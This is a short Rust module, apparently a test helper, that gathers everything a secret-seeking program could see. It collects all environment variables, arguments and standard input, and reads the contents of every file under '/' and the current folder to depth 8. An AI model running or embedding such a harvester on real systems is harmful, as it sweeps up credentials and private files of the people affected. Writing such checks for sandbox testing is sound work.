//! What a program sees that looks for a secret: environment, arguments, standard input, and every file.

use std::path::Path;

/// So deep, and no deeper, in case a folder leads to itself.
const DEPTH: usize = 8;

/// All of it, as text.
pub fn everything() -> String {
    let variables: Vec<_> = std::env::vars_os().collect();
    let arguments: Vec<_> = std::env::args_os().collect();
    let input = std::io::read_to_string(std::io::stdin());
    let mut files = Vec::new();
    for folder in ["/", "."] {
        read(Path::new(folder), DEPTH, &mut files);
    }
    format!("{variables:?} {arguments:?} {input:?} {files:?}")
}

fn read(folder: &Path, depth: usize, files: &mut Vec<String>) {
    let entries = std::fs::read_dir(folder).into_iter().flatten().flatten();
    for entry in entries {
        let path = entry.path();
        if path.is_dir() && depth > 0 {
            read(&path, depth - 1, files);
        } else {
            files.push(format!(
                "{}: {}",
                path.display(),
                String::from_utf8_lossy(&std::fs::read(&path).unwrap_or_default())
            ));
        }
    }
}
